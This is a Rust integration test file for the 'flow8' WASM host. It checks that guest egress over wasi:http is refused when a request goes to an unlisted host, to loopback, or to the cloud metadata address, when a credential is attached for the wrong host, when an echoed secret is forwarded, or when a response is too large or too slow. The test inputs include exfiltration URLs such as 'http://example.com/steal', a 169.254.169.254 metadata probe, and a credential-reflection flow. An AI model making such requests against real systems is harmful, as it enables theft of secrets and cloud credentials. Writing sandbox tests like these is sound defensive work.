//! The egress attacks of `hostile_guests.rs` and `hostile_egress.rs`, made through
//! standard `wasi:http/outgoing-handler` instead of `flow8:integration/http` (issue 15,
//! item 1): a request to a host outside the manifest, to loopback and to the cloud
//! metadata address, a credential attached for another host, a module's own
//! `Authorization` beside an attached credential, a huge answer, an answer that echoes
//! the attached secret, and an upstream slower than the step's deadline. Each is
//! stopped; after each, the next step on the same host runs normally. In-process, one
//! host, a real store and real HTTP servers (`RecordingServer`).

use flow8_host::components::{self, NewComponent};
use flow8_host::config::HostConfig;
use flow8_host::runtime::error::ErrorName;
use flow8_host::runtime::sandbox::StepLimits;
use flow8_host::runtime::{StepReport, StepRequest};
use flow8_host::store::Store;
use flow8_tests::recording_server::Reply;
use flow8_tests::{RecordingServer, in_process_host};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::time::Duration;

const COMPANY: &str = "company-a";
const SECRET: &str = "Bearer wasi-http-canary-93f1c0";

struct Host {
    host: flow8_host::app::Host,
    _data: tempfile::TempDir,
}

/// A host whose store holds an http component `api` pinned to `api_base`, answers at
/// most `max_response_bytes` long.
async fn host(allow_loopback: bool, api_base: &str, max_response_bytes: usize) -> Host {
    let data = tempfile::tempdir().unwrap();
    let mut config = HostConfig::default();
    config.outbound.allow_loopback = allow_loopback;
    config.outbound.max_response_bytes = max_response_bytes;
    let host = in_process_host(config, data.path()).await;
    let new: NewComponent = serde_json::from_value(json!({
        "name": "api", "kind": "http",
        "config": {"provider": "http", "base_url": api_base, "auth_value": SECRET}
    }))
    .unwrap();
    host.store
        .insert_component(
            components::prepare(new, COMPANY, &host.vault, host.modules.catalogue()).unwrap(),
        )
        .await
        .unwrap();
    Host { host, _data: data }
}

impl Host {
    async fn run_with(&self, input: Value, bind_api: bool, limits: StepLimits) -> StepReport {
        let mut bindings = BTreeMap::new();
        if bind_api {
            bindings.insert("api".to_string(), "api".to_string());
        }
        self.host
            .runtime
            .run_step(StepRequest {
                company_id: COMPANY.into(),
                module_ref: "wasi-http-guest".into(),
                input,
                bindings,
                limits: Some(limits),
                workspace: None,
                pinned_to: Vec::new(),
            })
            .await
    }

    async fn run(&self, input: Value) -> StepReport {
        self.run_with(input, false, StepLimits::default()).await
    }

    /// The host still serves a normal wasi:http step.
    async fn assert_healthy(&self, server: &RecordingServer) {
        let before = server.requests().len();
        let r = self.run(json!({"url": server.url("/healthy")})).await;
        let out = r.result.expect("a normal step after an attack");
        assert_eq!(out["status"], 200, "{out}");
        assert_eq!(server.requests().len(), before + 1);
    }
}

/// The module's output, which must be the wasi:http error code `code`; and the log
/// line that says why.
fn assert_refused(r: &StepReport, code: &str, why: &str) {
    let out = r.result.as_ref().expect("the module reports the refusal");
    assert_eq!(out["error"], code, "{out}");
    let log: Vec<&str> = r.log.iter().map(|l| l.message.as_str()).collect();
    assert!(
        log.iter()
            .any(|l| l.starts_with("wasi:http request to") && l.contains(why)),
        "no log line with `{why}`: {log:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_outside_the_manifest_is_refused_before_anything_is_sent() {
    let server = RecordingServer::start();
    let h = host(true, &server.url(""), 1 << 20).await;
    let r = h.run(json!({"url": "http://example.com/steal"})).await;
    assert_refused(&r, "HttpRequestDenied", "allowed hosts");
    h.assert_healthy(&server).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn loopback_and_metadata_addresses_are_refused_without_the_operators_allowance() {
    let server = RecordingServer::start();
    let strict = host(false, &server.url(""), 1 << 20).await;
    let r = strict.run(json!({"url": server.url("/x")})).await;
    assert_refused(&r, "HttpRequestDenied", "");
    let r = strict
        .run(json!({"url": format!("http://localhost:{}/x", server.addr.port())}))
        .await;
    assert_refused(&r, "HttpRequestDenied", "");
    assert!(server.requests().is_empty(), "{:?}", server.requests());

    // Allowing loopback does not open the cloud metadata service.
    let lenient = host(true, &server.url(""), 1 << 20).await;
    let r = lenient
        .run(json!({"url": "http://169.254.169.254/latest/meta-data/"}))
        .await;
    assert_refused(&r, "HttpRequestDenied", "");
    lenient.assert_healthy(&server).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_host_attaches_a_named_credential_and_only_for_its_own_host() {
    let api = RecordingServer::start();
    let elsewhere = RecordingServer::start();
    let h = host(true, &api.url(""), 1 << 20).await;
    let attach = json!([["flow8-credential", "api"]]);

    // Its own service gets it, attached by the host; the reserved header is not sent.
    let r = h
        .run_with(
            json!({"url": api.url("/ok"), "method": "POST", "body": "{\"n\":1}",
                   "headers": attach}),
            true,
            StepLimits::default(),
        )
        .await;
    let out = r.result.as_ref().unwrap();
    assert_eq!(out["status"], 200, "{out}");
    let sent = &api.requests()[0];
    assert_eq!(sent.header("authorization"), Some(SECRET));
    assert_eq!(sent.header("flow8-credential"), None, "{sent:?}");
    assert_eq!(sent.body, b"{\"n\":1}");
    assert!(
        r.credentials_used
            .iter()
            .any(|u| u.binding == "api" && u.how == "attached"),
        "{:?}",
        r.credentials_used
    );

    // Another host in the manifest: not the credential's.
    let exfil = format!("http://localhost:{}/steal", elsewhere.addr.port());
    let r = h
        .run_with(
            json!({"url": exfil, "headers": attach}),
            true,
            StepLimits::default(),
        )
        .await;
    assert_refused(&r, "HttpRequestDenied", "api");

    // A binding the step was not granted.
    let r = h
        .run(json!({"url": api.url("/ok"), "headers": attach}))
        .await;
    assert_refused(&r, "HttpRequestDenied", "api");

    // The module's own Authorization on a request the host attaches to is refused, not
    // replaced or sent beside it.
    let r = h
        .run_with(
            json!({"url": api.url("/ok"),
                   "headers": [["flow8-credential", "api"], ["Authorization", "Bearer own"]]}),
            true,
            StepLimits::default(),
        )
        .await;
    assert_refused(&r, "HttpRequestDenied", "when it attaches credential `api`");
    assert_eq!(api.requests().len(), 1, "{:?}", api.requests());
    assert!(
        elsewhere.requests().is_empty(),
        "{:?}",
        elsewhere.requests()
    );
    // Without attachment, Authorization is the module's to send.
    let r = h
        .run(json!({"url": api.url("/own"), "headers": [["Authorization", "Bearer own"]]}))
        .await;
    assert_eq!(r.result.unwrap()["status"], 200);
    assert_eq!(
        api.requests()[1].header("authorization"),
        Some("Bearer own")
    );
    h.assert_healthy(&api).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_echoing_the_attached_secret_pins_the_step_to_its_service() {
    let api = RecordingServer::start();
    let elsewhere = RecordingServer::start();
    let h = host(true, &api.url(""), 1 << 20).await;
    api.script([Reply::text(200, &format!("you sent: {SECRET}"))]);
    // The secret comes back in the answer; the module sends that answer elsewhere in
    // the same step.
    let r = h
        .run_with(
            json!({"url": api.url("/echo"), "headers": [["flow8-credential", "api"]],
                   "then": {"url": elsewhere.url("/steal"), "method": "POST",
                            "body_from_first": true}}),
            true,
            StepLimits::default(),
        )
        .await;
    let out = r.result.as_ref().expect("the module reports both answers");
    assert_eq!(out["first"]["status"], 200, "{out}");
    assert_eq!(out["then"]["error"], "HttpRequestDenied", "{out}");
    assert!(
        r.log.iter().any(|l| l
            .message
            .contains("a response returned to this step credential `api`")),
        "{:?}",
        r.log
    );
    assert!(r.tainted, "{r:?}");
    assert!(
        r.credentials_used.iter().any(|u| u.how == "reflected"),
        "{:?}",
        r.credentials_used
    );
    // Its output never shows the secret (redacted like any step's).
    assert!(!out.to_string().contains("wasi-http-canary"), "{out}");
    assert!(
        elsewhere.requests().is_empty(),
        "{:?}",
        elsewhere.requests()
    );
    // flow8 hands the report's `pinned_to` to the step fed from it.
    let r2 = h
        .host
        .runtime
        .run_step(StepRequest {
            company_id: COMPANY.into(),
            module_ref: "wasi-http-guest".into(),
            input: json!({"url": elsewhere.url("/steal")}),
            bindings: BTreeMap::new(),
            limits: None,
            workspace: None,
            pinned_to: r.pinned_to.clone(),
        })
        .await;
    assert_refused(&r2, "HttpRequestDenied", "credential `api`");
    assert!(
        elsewhere.requests().is_empty(),
        "{:?}",
        elsewhere.requests()
    );
    h.assert_healthy(&elsewhere).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_answer_is_refused_at_the_operators_cap() {
    let server = RecordingServer::start();
    let h = host(true, &server.url(""), 64 * 1024).await;
    server.script([Reply::text(200, &"x".repeat(1024 * 1024))]);
    let r = h.run(json!({"url": server.url("/huge")})).await;
    assert_refused(&r, "HttpResponseBodySize(Some(65536))", "65536 bytes");
    h.assert_healthy(&server).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upstream_slower_than_the_deadline_ends_the_step_at_the_deadline() {
    let server = RecordingServer::start();
    let h = host(true, &server.url(""), 1 << 20).await;
    server.script([Reply::text(200, "late").with_delay(Duration::from_secs(30))]);
    let r = h
        .run_with(
            json!({"url": server.url("/slow")}),
            false,
            StepLimits {
                deadline: Duration::from_secs(2),
                ..StepLimits::default()
            },
        )
        .await;
    // Either the request's own timeout (the time left) answers the module first, or
    // the step's deadline ends it: both within the deadline, never the upstream's 30 s.
    match &r.result {
        Ok(out) => assert_eq!(out["error"], "ConnectionTimeout", "{out}"),
        Err(e) => assert_eq!(e.name, ErrorName::DeadlineExceeded, "{e:?}"),
    }
    h.assert_healthy(&server).await;
}
